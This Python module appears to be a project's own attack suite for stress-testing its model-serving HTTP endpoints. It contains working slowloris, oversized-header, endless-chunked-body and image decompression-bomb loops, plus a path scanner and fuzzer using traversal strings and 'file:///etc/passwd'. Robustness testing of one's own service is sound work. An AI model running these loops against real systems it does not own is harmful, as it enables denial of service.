"""The oldest kinds of attack of `make attack`, each a loop that ends with an event, and its tools.

They use nothing but sockets to one address, so that no client library refuses to send what a
hostile caller would send. Each loop pauses between rounds: it tries to make the service do much
work for little of its own, not to win a race for the CPU of a shared machine.
"""

import contextlib
import io
import json
import random
import select
import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from threading import Event
from typing import Any

import PIL.Image

from serve.http.examples import payload
from serve.media.samples import data_uri

PAUSE_S = 0.5
TIMEOUT_S = 30.0
MIB = 1 << 20
KEY = "the key of a hostile caller"
"""The key that the attacks have which get further than the check of keys."""

Address = tuple[str, int]


@dataclass
class Tally:
    """What an attack sent and what it was answered."""

    rounds: int = 0
    answers: dict[str, int] = field(default_factory=dict)
    """The number of answers by status code; `closed` counts connections without an answer."""

    def count(self, answer: str) -> None:
        """Count an answer."""
        self.answers[answer] = self.answers.get(answer, 0) + 1


Attack = Callable[[Address, Event, Tally], None]


@contextlib.contextmanager
def connected(address: Address) -> Iterator[socket.socket]:
    """Connect to ``address``; the connection is closed in the end."""
    with socket.create_connection(address, timeout=TIMEOUT_S) as connection:
        yield connection


def read_status(connection: socket.socket) -> str:
    """Return the status code that arrives on ``connection``, or `closed`."""
    try:
        start = connection.recv(64)
    except OSError:
        return "closed"
    return start.split(b" ")[1].decode() if start.startswith(b"HTTP/") else "closed"


def send_all(connection: socket.socket, data: bytes) -> None:
    """Send ``data`` until the service closes the connection."""
    with contextlib.suppress(OSError):
        connection.sendall(data)


def readable(connections: list[socket.socket], timeout_s: float) -> list[socket.socket]:
    """Return those ``connections`` on which something has arrived, or that were closed."""
    poll = select.poll()  # unlike select, it takes files of any number
    for connection in connections:
        poll.register(connection, select.POLLIN)
    numbers = {number for number, _ in poll.poll(1000 * timeout_s)}
    return [connection for connection in connections if connection.fileno() in numbers]


def authorization() -> str:
    """Return the header with the hostile caller's key."""
    return f"Authorization: Bearer {KEY}"


def post(path: str, body: bytes, *headers: str) -> bytes:
    """Return a POST request with a JSON body."""
    lines = [f"POST {path} HTTP/1.1", "Host: x", "Content-Type: application/json", f"Content-Length: {len(body)}", *headers]
    return "\r\n".join([*lines, "", ""]).encode() + body


def long_headers(address: Address, stop: Event, tally: Tally) -> None:
    """Send one header, one URL, or a hundred thousand headers that never end."""
    shapes = (
        lambda: (b"GET /health HTTP/1.1\r\nHost: x\r\nX: ", b"y" * MIB),
        lambda: (b"GET /health?", b"y" * MIB),
        lambda: (b"GET /health HTTP/1.1\r\nHost: x\r\n", b"X1: y\r\n" * (MIB // 7)),
    )
    while not stop.is_set():
        first, block = shapes[tally.rounds % len(shapes)]()
        with contextlib.suppress(OSError), connected(address) as connection:
            connection.sendall(first)
            for _ in range(32):
                connection.sendall(block)
        tally.count("cut off")
        tally.rounds += 1
        stop.wait(PAUSE_S)


def slow_senders(address: Address, stop: Event, tally: Tally) -> None:
    """Hold 128 connections, of which each sends a byte of a header or of a body per second."""
    beginnings = (
        (b"POST /wan2.6 HTTP/1.1\r\nHost: x\r\n", b"X: y\r\n"),
        (b"POST /wan2.6 HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{", b" "),
    )
    held: list[tuple[socket.socket, bytes]] = []
    while not stop.is_set():
        while len(held) < 128:
            first, more = beginnings[len(held) % 2]
            try:
                connection = socket.create_connection(address, timeout=TIMEOUT_S)
            except OSError:
                break
            send_all(connection, first)
            held.append((connection, more))
        answered = readable([connection for connection, _ in held], 0)
        for connection, more in list(held):
            if connection in answered:
                tally.count(read_status(connection))
                connection.close()
                held.remove((connection, more))
            else:
                send_all(connection, more)
        tally.rounds += 1
        stop.wait(1)
    for connection, _ in held:
        connection.close()


def endless_chunks(address: Address, stop: Event, tally: Tally) -> None:
    """Send 48 MiB in chunks on each of four connections, and then never end the body."""
    while not stop.is_set():
        held = [socket.create_connection(address, timeout=TIMEOUT_S) for _ in range(4)]
        for number, connection in enumerate(held):
            path = ("wan2.6", "nothing-here")[number % 2]
            head = f"POST /{path} HTTP/1.1\r\nHost: x\r\n{authorization()}\r\nTransfer-Encoding: chunked\r\n\r\n"
            send_all(connection, head.encode())
            for _ in range(48):
                send_all(connection, b"100000\r\n" + b" " * MIB + b"\r\n")
        waiting = list(held)
        deadline = time.monotonic() + 20
        while waiting and time.monotonic() < deadline and not stop.is_set():
            for connection in readable(waiting, 0.5):
                tally.count(read_status(connection))
                waiting.remove(connection)
        for connection in held:
            connection.close()
        tally.rounds += 1
        stop.wait(PAUSE_S)


def progressive_jpeg(scans: int) -> bytes:
    """Return a small file that takes long to decode: its last scan is repeated."""
    buffer = io.BytesIO()
    PIL.Image.new("RGB", (5600, 5600)).save(buffer, "JPEG", quality=1, progressive=True)
    data = buffer.getvalue()
    last = data.rfind(b"\xff\xda")
    return data[:-2] + data[last:-2] * scans + data[-2:]


def large_webp() -> bytes:
    """Return a picture of 31 megapixels in about a kilobyte."""
    buffer = io.BytesIO()
    PIL.Image.new("RGB", (5600, 5600)).save(buffer, "WEBP", lossless=True)
    return buffer.getvalue()


def long_gif() -> bytes:
    """Return a short file that says 160 frames of 1920x1080."""
    buffer = io.BytesIO()
    frames = [PIL.Image.new("L", (1920, 1080), 40 * (index % 2)) for index in range(160)]
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=20)
    return buffer.getvalue()


def bombs(address: Address, stop: Event, tally: Tally) -> None:
    """Send small files that are expensive to decode; every other caller leaves early."""
    portrait = payload("image-faceswap")["reference_image"]
    jpeg = data_uri(progressive_jpeg(1000), "image/jpeg")
    webp = data_uri(large_webp(), "image/webp")
    gif = data_uri(long_gif(), "image/gif")
    requests = [
        post("/image-faceswap", json.dumps({"source_image": jpeg, "reference_image": portrait}).encode(), authorization()),
        post("/image-faceswap", json.dumps({"source_image": webp, "reference_image": [webp] * 8}).encode(), authorization()),
        post(
            "/batch-video-faceswap",
            json.dumps({"source_video": gif, "reference_image": portrait}).encode(),
            authorization(),
            "Accept: image/webp",
            "Request-Timeout: 10",
        ),
    ]
    while not stop.is_set():
        with contextlib.suppress(OSError), connected(address) as connection:
            send_all(connection, requests[tally.rounds % len(requests)])
            if tally.rounds % 2:
                stop.wait(1)
                tally.count("left")
            else:
                tally.count(read_status(connection))
        tally.rounds += 1
        stop.wait(PAUSE_S)


def path_scan(address: Address, stop: Event, tally: Tally) -> None:
    """Ask for paths, methods and headers that a scanner would try."""
    lot = random.Random(1)
    parts = ["..", "%2e%2e", "admin", "-", "routes", "healthz", ".env", "api", "%00", "wan2.6", "\\", "docs", "assets", "etc"]
    headers = ["serve_multiplexed_model_id: \xff", "x-session-id: \xff", "x-request-timeout-seconds: 0", "Range: bytes=0-"]
    while not stop.is_set():
        path = "/" + "/".join(lot.choices(parts, k=lot.randint(1, 5)))
        method = lot.choice(["GET", "HEAD", "PUT", "DELETE", "OPTIONS", "TRACE", "PROPFIND"])
        request = f"{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{lot.choice(headers)}\r\n\r\n"
        with contextlib.suppress(OSError), connected(address) as connection:
            send_all(connection, request.encode("latin-1"))
            tally.count(read_status(connection))
        tally.rounds += 1
        stop.wait(0.05)


def fuzz(address: Address, stop: Event, tally: Tally) -> None:
    """Send the sample request of an endpoint with a few bytes or fields changed."""
    lot = random.Random(2)
    odd: list[Any] = [
        None,
        -1,
        1e308,
        "",
        [],
        {},
        True,
        "\ud800",
        "a" * 5000,
        [[[]]],
        "data:image/png;base64,AAAA",
        "file:///etc/passwd",
    ]
    names = ["wan2.6", "image-faceswap", "batch-video-faceswap", "wan22-i2v"]
    while not stop.is_set():
        name = lot.choice(names)
        fields = dict(payload(name))
        fields[lot.choice([*fields, "unknown"])] = lot.choice(odd)
        body = bytearray(json.dumps(fields).encode())
        if lot.random() < 0.5:
            for _ in range(lot.randint(1, 4)):
                body[lot.randrange(len(body))] = lot.randrange(256)
        with contextlib.suppress(OSError), connected(address) as connection:
            send_all(connection, post(f"/{name}", bytes(body), authorization(), "Request-Timeout: 1", "Connection: close"))
            tally.count(read_status(connection))
        tally.rounds += 1
        stop.wait(0.2)


ATTACKS: dict[str, Attack] = {
    "header": long_headers,
    "slow": slow_senders,
    "chunked": endless_chunks,
    "bomb": bombs,
    "scan": path_scan,
    "fuzz": fuzz,
}
